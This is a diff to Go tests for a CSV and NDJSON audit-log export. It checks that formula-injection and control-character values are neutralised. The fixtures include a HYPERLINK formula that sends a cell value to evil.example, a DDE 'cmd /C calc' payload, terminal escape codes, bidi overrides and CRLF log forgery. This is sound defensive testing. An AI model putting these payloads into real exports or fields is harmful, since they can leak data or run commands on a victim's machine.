@@ -246,12 +246,12 @@ func TestExportCSVInjection(t *testing.T) {
 	r := storetest.Record(0)
 	r.UserID = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"
 	r.UserEmail = "@SUM(1+1)*cmd|' /C calc'!A0"
-	r.UserAgent = "+cmd"
+	r.UserAgent = "\t=1 +cmd"
 	r.ResourceID = "-2+3"
-	r.RequestID = "\t=1"
-	r.SessionID = "\r=1"
+	r.RequestID = "=1"
+	r.SessionID = "+1"
 	r.ErrorMessage = "＝1+1"
-	r.ResourceType = "line\nbreak, \"quoted\""
+	r.ResourceType = "comma, \"quoted\""
 	r.Action = "x;=HYPERLINK(\"http://evil.example\")"
 	r.Details = json.RawMessage(`{"k": "=1", "n": [1, 2]}`) // as PostgreSQL's jsonb spaces it
 	e := newEnv(t, []audit.Record{r})
@@ -278,7 +278,7 @@ func TestExportCSVInjection(t *testing.T) {
 		}
 	}
 	row := rows[1]
-	if row[3] != "'"+r.UserID || row[8] != "line\uFFFDbreak, \"quoted\"" || row[15] != "'"+r.ErrorMessage {
+	if row[3] != "'"+r.UserID || row[8] != "comma, \"quoted\"" || row[15] != "'"+r.ErrorMessage {
 		t.Errorf("cells %q, %q, %q: want the values, quoted where dangerous", row[3], row[8], row[15])
 	}
 	if row[10] != `{"k":"=1","n":[1,2]}` {
@@ -288,11 +288,12 @@ func TestExportCSVInjection(t *testing.T) {
 
 // TestExportControlCharacters exports values holding terminal and bidi
 // controls and checks that neither export carries them raw, and that the
-// NDJSON still decodes to the stored values.
+// NDJSON still decodes to the stored values. (Identities cannot hold
+// control characters: every door refuses them.)
 func TestExportControlCharacters(t *testing.T) {
 	t.Parallel()
 	r := storetest.Record(0)
-	r.UserID = "u\u009b2J\x1b[31m"
+	r.UserEmail = "u\u009b2J\x1b[31m"
 	r.UserAgent = "evil\u202egood\u2066x\u2069\u200ey\u200fz\u061c"
 	r.ErrorMessage = "line\r\nforged: ok"
 	r.ResourceID = " =1+1"
